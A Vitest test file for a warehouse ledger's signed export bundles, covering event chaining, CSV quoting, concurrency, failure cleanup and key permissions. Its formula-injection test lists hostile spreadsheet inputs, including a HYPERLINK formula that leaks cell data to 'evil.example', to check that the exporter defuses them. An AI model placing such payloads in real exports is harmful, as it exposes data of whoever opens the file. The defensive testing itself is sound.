import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportBundle, rulesInForce } from '../../electron/export/exportBundle';
import { ExportError } from '../../electron/export/errors';
import { PRIVATE_KEY_FILE, PUBLIC_KEY_FILE, workstationKey } from '../../electron/export/keys';
import { verifyExport } from '../../electron/export/verify';
import type { ActiveRuleSet } from '../../electron/journal';
import { created, freshJournal, incoming, statusTo } from '../journal/helpers';
import { addOrders, bundleEvents, readCsv, scratch } from './helpers';

const NOW = () => new Date('2026-11-27T06:00:00Z');

function setup(orders = 30) {
  const journal = freshJournal();
  addOrders(journal, orders);
  const dest = scratch('export-dest-');
  const keyDir = scratch('export-key-');
  const options = { destination: dest, workstation: 'DOCK-3', keyDir, now: NOW };
  return { journal, dest, keyDir, options };
}

describe('exportBundle', () => {
  it('writes every event once, in bundles that chain, and advances the cursor only by what it wrote', async () => {
    const { journal, dest, keyDir, options } = setup(20);
    const first = await exportBundle(journal, options);
    expect(first.fromSeq).toBe(1);
    expect(first.toSeq).toBe(journal.lastSeq());
    expect(first.events).toBe(journal.lastSeq());
    expect(first.bundle).toBe(`DOCK-3_000000000001-${String(journal.lastSeq()).padStart(12, '0')}`);
    expect(journal.exportCursor()).toBe(journal.lastSeq());

    addOrders(journal, 7, 100);
    const second = await exportBundle(journal, options);
    expect(second.fromSeq).toBe(first.toSeq + 1);
    addOrders(journal, 3, 200);
    const third = await exportBundle(journal, options);

    const pub = (await workstationKey(keyDir)).publicKeyPem;
    const dirs = [first, second, third].map((r) => path.join(dest, r.bundle!));
    expect((await verifyExport(dirs[0]!, pub)).problems).toEqual([]);
    expect((await verifyExport(dirs[1]!, pub, dirs[0])).problems).toEqual([]);
    expect((await verifyExport(dirs[2]!, pub, dirs[1])).problems).toEqual([]);

    const seqs = dirs.flatMap((d) => bundleEvents(d).map((e) => e.seq));
    expect(seqs).toEqual(Array.from({ length: journal.lastSeq() }, (_, i) => i + 1));
    // Each bundle's events carry the journal's own hashes.
    for (const d of dirs) for (const e of bundleEvents(d)) expect(e.hash).toBe(journal.chainHash(e.seq));

    expect(journal.exportHistory().map((h) => h.bundle)).toEqual([third.bundle, second.bundle, first.bundle]);
    expect(fs.readdirSync(dest).sort()).toEqual([first.bundle, second.bundle, third.bundle].sort());
  });

  it('carries in a later bundle only the orders its range changed and the anomalies it flagged or resolved', async () => {
    const { journal, dest, options } = setup(15);
    journal.addOperator({ id: 'sup', name: 'Sue', role: 'Supervisor', password: 'supervisor-pw' });
    const first = await exportBundle(journal, options);
    const before = journal.anomalies({ open: true, limit: 100 });
    expect(before.length).toBeGreaterThan(1);
    // In the next range: new orders, an old order moved on, and an old flag dismissed.
    addOrders(journal, 4, 100);
    journal.appendBatch([statusTo('ORD-000001', 'Cancelled')], 'later');
    const flag = before[before.length - 1]!;
    journal.dismiss({
      operatorId: 'sup',
      orderId: flag.orderId,
      dismissesEventId: flag.eventId,
      reason: 'A false alarm, checked',
    });
    const second = await exportBundle(journal, options);
    const dir = path.join(dest, second.bundle!);

    const range = journal.journalPage({}, undefined, 10_000).filter((e) => e.seq >= second.fromSeq);
    const changed = [...new Set(range.map((e) => e.orderId))].sort();
    const orders = readCsv(path.join(dir, 'orders.csv')).slice(1);
    expect(orders.map((r) => r[0])).toEqual(changed);
    expect(changed).toEqual(expect.arrayContaining(['ORD-000001', flag.orderId, 'ORD-000100']));
    // Each as the journal holds it now (the last seq column).
    for (const r of orders) expect(Number(r[3])).toBe(journal.order(r[0]!)!.lastSeq);

    const anomalies = readCsv(path.join(dir, 'anomalies.csv')).slice(1);
    const want = journal
      .anomalies({ limit: 10_000 })
      .filter(
        (a) =>
          a.seq >= second.fromSeq ||
          (a.resolvedBySeq !== null && a.resolvedBySeq >= second.fromSeq && a.resolvedBySeq <= second.toSeq),
      );
    expect(anomalies.map((r) => Number(r[0]))).toEqual(want.map((a) => a.id));
    expect(anomalies.find((r) => Number(r[0]) === flag.id)?.[11]).toBe('false');
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
    expect(manifest).toMatchObject({
      format: 'warehouse-ledger-export/3',
      counts: { orders: changed.length, anomalies: want.length },
    });
    // The first bundle held everything.
    const all = readCsv(path.join(dest, first.bundle!, 'orders.csv'));
    expect(all.length - 1).toBe(15);
  });

  it('writes no bundle when nothing is new', async () => {
    const { journal, dest, options } = setup(5);
    const first = await exportBundle(journal, options);
    const again = await exportBundle(journal, options);
    expect(again).toMatchObject({ bundle: null, events: 0, fromSeq: first.toSeq + 1, toSeq: first.toSeq });
    expect(fs.readdirSync(dest)).toEqual([first.bundle]);
    expect(journal.exportHistory()).toHaveLength(1);
  });

  it('writes no bundle for an empty journal', async () => {
    const journal = freshJournal();
    const dest = scratch();
    const r = await exportBundle(journal, { destination: dest, workstation: 'W1', keyDir: scratch() });
    expect(r).toMatchObject({ bundle: null, events: 0 });
    expect(fs.readdirSync(dest)).toEqual([]);
  });

  it('puts the orders and anomalies at export time in RFC 4180 CSV, counted in the manifest', async () => {
    const { journal, dest, options } = setup(12);
    const r = await exportBundle(journal, options);
    const dir = path.join(dest, r.bundle!);
    const orders = readCsv(path.join(dir, 'orders.csv'));
    const anomalies = readCsv(path.join(dir, 'anomalies.csv'));
    expect(orders.length - 1).toBe(journal.countOrders());
    expect(anomalies.length - 1).toBe(journal.anomalies({ limit: 10_000 }).length);
    expect(anomalies.length).toBeGreaterThan(1);
    const byId = new Map(orders.slice(1).map((row) => [row[0], row]));
    for (const o of journal.orders({ limit: 10_000 })) {
      const row = byId.get(o.orderId)!;
      expect(row[1]).toBe(o.status ?? '');
      expect(row[2]).toBe(o.customer ?? '');
    }
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
    expect(manifest.counts).toEqual({ events: r.events, orders: orders.length - 1, anomalies: anomalies.length - 1 });
    expect(manifest.ruleSets.map((x: { key: string }) => x.key)).toEqual([journal.activeRuleSet().key]);
    expect(manifest.chain.startHash).toBe(journal.chainHash(0));
    expect(manifest.chain.endHash).toBe(journal.chainHash(r.toSeq));
    expect(manifest.exportedAt).toBe(NOW().toISOString());
  });

  it("quotes a field for a comma alone, and every row has the header's number of fields", async () => {
    const journal = freshJournal();
    // A comma and nothing else that needs quoting: a writer that stopped quoting commas would
    // pass every other test, and shift this customer's columns.
    journal.appendBatch([created('ORD-C', [{ sku: 'A', qty: 1 }], 'Smith, Jones and Partners')], 'test');
    journal.appendBatch(
      [statusTo('ORD-C', 'Shipped', 'Picker')].map((e) => ({
        ...e,
        event: { ...e.event, initiatedBy: { id: 'p1', name: 'Kovac, Mark', role: 'Picker' as const } },
      })),
      'test',
    );
    const dest = scratch();
    const r = await exportBundle(journal, { destination: dest, workstation: 'W1', keyDir: scratch(), now: NOW });
    const dir = path.join(dest, r.bundle!);
    const ordersText = fs.readFileSync(path.join(dir, 'orders.csv'), 'utf8');
    expect(ordersText).toContain(',"Smith, Jones and Partners",');
    const orders = readCsv(path.join(dir, 'orders.csv'));
    const anomalies = readCsv(path.join(dir, 'anomalies.csv'));
    for (const row of orders) expect(row).toHaveLength(orders[0]!.length);
    for (const row of anomalies) expect(row).toHaveLength(anomalies[0]!.length);
    expect(orders[1]![orders[0]!.indexOf('customer')]).toBe('Smith, Jones and Partners');
    const shipped = anomalies.find((a) => a[anomalies[0]!.indexOf('kind')] === 'illegal-transition')!;
    expect(shipped[anomalies[0]!.indexOf('initiatorName')]).toBe('Kovac, Mark');
    expect(fs.readFileSync(path.join(dir, 'anomalies.csv'), 'utf8')).toContain(',"Kovac, Mark",');
  });

  it('defuses text a spreadsheet would run as a formula in orders.csv and anomalies.csv', async () => {
    const journal = freshJournal();
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A9)',
      '\tTAB',
      '\r=1',
    ];
    formulas.forEach((text, i) => {
      const id = `ORD-F${i}`;
      journal.appendBatch([created(id, [{ sku: 'A', qty: 1 }], text)], 'test');
      const e = incoming(id, 'StatusChanged', { status: 'Shipped' }, 'Picker');
      journal.appendBatch(
        [{ ...e, event: { ...e.event, initiatedBy: { id: text, name: text, role: 'Picker' } } }],
        'test',
      );
    });
    const dest = scratch();
    const keyDir = scratch();
    const r = await exportBundle(journal, { destination: dest, workstation: 'W1', keyDir, now: NOW });
    const dir = path.join(dest, r.bundle!);
    const orders = readCsv(path.join(dir, 'orders.csv'));
    const anomalies = readCsv(path.join(dir, 'anomalies.csv'));
    const column = (rows: string[][], name: string) => rows.slice(1).map((row) => row[rows[0]!.indexOf(name)]!);
    expect(column(orders, 'customer').sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    const flagged = anomalies.filter((a) => a[anomalies[0]!.indexOf('kind')] === 'illegal-transition');
    expect(flagged).toHaveLength(formulas.length);
    for (const name of ['initiatorId', 'initiatorName']) {
      expect(column([anomalies[0]!, ...flagged], name).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    }
    // No cell of either file starts as a formula, except a number (a negative count is data).
    for (const row of [...orders, ...anomalies].flat()) {
      if (/^-?\d+(\.\d+)?$/.test(row)) continue;
      expect(row).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect((await verifyExport(dir, (await workstationKey(keyDir)).publicKeyPem)).problems).toEqual([]);
  });

  it('refuses a training journal and writes nothing', async () => {
    const journal = freshJournal({ kind: 'training' });
    addOrders(journal, 3);
    const dest = scratch();
    const run = exportBundle(journal, { destination: dest, workstation: 'W1', keyDir: scratch() });
    await expect(run).rejects.toThrow(/a training journal is never exported/);
    await expect(run).rejects.toBeInstanceOf(ExportError);
    expect(fs.readdirSync(dest)).toEqual([]);
    expect(journal.exportCursor()).toBe(0);
    expect(() =>
      journal.recordExport({
        bundle: 'x',
        fromSeq: 1,
        toSeq: 1,
        events: 1,
        destination: dest,
        at: '',
        endHash: journal.chainHash(1),
        keyFingerprint: 'f',
      }),
    ).toThrow(/training journal/);
  });

  it('refuses a workstation name that is not a safe folder name', async () => {
    const { journal, options } = setup(1);
    await expect(exportBundle(journal, { ...options, workstation: '../up' })).rejects.toThrow(/workstation name/);
    await expect(exportBundle(journal, { ...options, workstation: 'a_b' })).rejects.toThrow(/workstation name/);
  });

  it('leaves the cursor where it was when the destination cannot be written, and the next good export has everything', async () => {
    const { journal, options } = setup(10);
    const root = scratch();
    const file = path.join(root, 'a-file');
    fs.writeFileSync(file, 'not a folder');
    // Root can write anywhere it may, so the failure is one root cannot bypass: a path through a file.
    for (const destination of [path.join(file, 'share'), file, path.join(root, 'missing')]) {
      const run = exportBundle(journal, { ...options, destination });
      await expect(run).rejects.toMatchObject({ code: 'destination' });
      await expect(run).rejects.toThrow(/export destination .* (is not a folder|is a file|does not exist)/);
      expect(journal.exportCursor()).toBe(0);
    }
    addOrders(journal, 4, 50);
    const good = await exportBundle(journal, options);
    expect(good).toMatchObject({ fromSeq: 1, toSeq: journal.lastSeq(), events: journal.lastSeq() });
  });

  it('removes the temporary folder of an export that failed while writing', async () => {
    const { journal, dest, options } = setup(10);
    const failing = {
      ...journal,
      kind: journal.kind,
      lastSeq: () => journal.lastSeq(),
      exportCursor: () => journal.exportCursor(),
      chainHash: (seq: number) => journal.chainHash(seq),
      chainHashes: (from: number, to: number) => journal.chainHashes(from, to),
      ruleSetHistory: () => journal.ruleSetHistory(),
      recordExport: journal.recordExport.bind(journal),
      exportHistory: journal.exportHistory.bind(journal),
      exportCount: journal.exportCount.bind(journal),
      verify: journal.verify.bind(journal),
      orders: () => {
        throw new Error('the disk went away');
      },
      anomalies: journal.anomalies.bind(journal),
      ordersChangedIn: journal.ordersChangedIn.bind(journal),
      anomaliesTouchedIn: journal.anomaliesTouchedIn.bind(journal),
      iterateEvents: journal.iterateEvents.bind(journal),
    };
    await expect(exportBundle(failing, options)).rejects.toThrow(/the disk went away/);
    expect(fs.readdirSync(dest)).toEqual([]);
    expect(journal.exportCursor()).toBe(0);
  });

  it('removes leftovers of a dead run and records a bundle renamed into place by a run that died before recording it', async () => {
    const { journal, dest, keyDir, options } = setup(8);
    // A temporary folder of a run whose process is gone (pid 2^22 + 1 is beyond Linux's pid range).
    const leftover = path.join(dest, `.tmp-DOCK-3_000000000001-000000000009-4194305-abcd1234`);
    fs.mkdirSync(leftover);
    fs.writeFileSync(path.join(leftover, 'events.ndjson.gz'), 'half');
    // A run that renamed its bundle into place and died before the cursor moved.
    const dying = Object.create(journal) as typeof journal;
    dying.recordExport = () => {
      throw new Error('killed');
    };
    const lost = await exportBundle(dying, options).catch((e: Error) => e);
    expect(lost).toBeInstanceOf(Error);
    expect(journal.exportCursor()).toBe(0);
    const bundles = fs.readdirSync(dest).filter((e) => !e.startsWith('.'));
    expect(bundles).toHaveLength(1);
    expect(fs.existsSync(leftover)).toBe(false);

    addOrders(journal, 2, 70);
    const adopted = await exportBundle(journal, options);
    expect(adopted).toMatchObject({ bundle: bundles[0], adopted: true, fromSeq: 1 });
    const next = await exportBundle(journal, options);
    expect(next.fromSeq).toBe(adopted.toSeq + 1);
    expect(next.toSeq).toBe(journal.lastSeq());
    const pub = (await workstationKey(keyDir)).publicKeyPem;
    expect((await verifyExport(path.join(dest, next.bundle!), pub, path.join(dest, adopted.bundle!))).ok).toBe(true);
  });
});

describe('two exports at once', () => {
  it('let one bundle through and withdraw the other, so no event goes out twice', async () => {
    const { journal, dest, keyDir, options } = setup(10);
    const a = exportBundle(journal, options);
    addOrders(journal, 3, 300); // the second sees more events: a different, overlapping range
    const b = exportBundle(journal, options);
    const [ra, rb] = await Promise.allSettled([a, b]);
    const won = [ra, rb].filter((r) => r.status === 'fulfilled');
    const lost = [ra, rb].filter((r) => r.status === 'rejected');
    expect(won).toHaveLength(1);
    expect(lost).toHaveLength(1);
    expect((lost[0] as PromiseRejectedResult).reason).toMatchObject({ code: 'conflict' });
    const winner = (won[0] as PromiseFulfilledResult<Awaited<typeof a>>).value;
    expect(fs.readdirSync(dest)).toEqual([winner.bundle]);
    expect(journal.exportCursor()).toBe(winner.toSeq);

    const rest = await exportBundle(journal, options);
    if (winner.toSeq < journal.lastSeq()) {
      expect(rest.fromSeq).toBe(winner.toSeq + 1);
      const pub = (await workstationKey(keyDir)).publicKeyPem;
      expect((await verifyExport(rest.path!, pub, winner.path!)).problems).toEqual([]);
    } else {
      expect(rest.bundle).toBeNull();
    }
    const seqs = fs.readdirSync(dest).flatMap((d) => bundleEvents(path.join(dest, d)).map((e) => e.seq));
    expect(seqs.sort((x, y) => x - y)).toEqual(Array.from({ length: journal.lastSeq() }, (_, i) => i + 1));
  });
});

describe('the workstation key', () => {
  it('is made once, private to its owner, with the public key beside it', async () => {
    const dir = path.join(scratch(), 'user data');
    const a = await workstationKey(dir);
    const b = await workstationKey(dir);
    expect(b.publicKeyPem).toBe(a.publicKeyPem);
    expect(fs.statSync(path.join(dir, PRIVATE_KEY_FILE)).mode & 0o777).toBe(0o600);
    expect(fs.readFileSync(path.join(dir, PUBLIC_KEY_FILE), 'utf8')).toBe(a.publicKeyPem);
    expect(a.publicKeyPem).toMatch(/^-----BEGIN PUBLIC KEY-----/);
    expect((await workstationKey(scratch())).publicKeyPem).not.toBe(a.publicKeyPem);
  });
});

describe('rulesInForce', () => {
  const rs = (key: string, activatedAtSeq: number | null) =>
    ({ key, hash: key.padEnd(64, '0'), activatedAtSeq }) as unknown as ActiveRuleSet;
  const history = [rs('a', null), rs('b', 10), rs('c', 20)];
  const keys = (from: number, to: number) => rulesInForce(history, from, to).map((r) => r.key);

  it('names the rule sets that checked events of the range (an activation event is checked by its predecessor)', () => {
    expect(keys(1, 5)).toEqual(['a']);
    expect(keys(1, 10)).toEqual(['a']);
    expect(keys(10, 11)).toEqual(['a', 'b']);
    expect(keys(11, 20)).toEqual(['b']);
    expect(keys(15, 30)).toEqual(['b', 'c']);
    expect(keys(21, 21)).toEqual(['c']);
  });
});
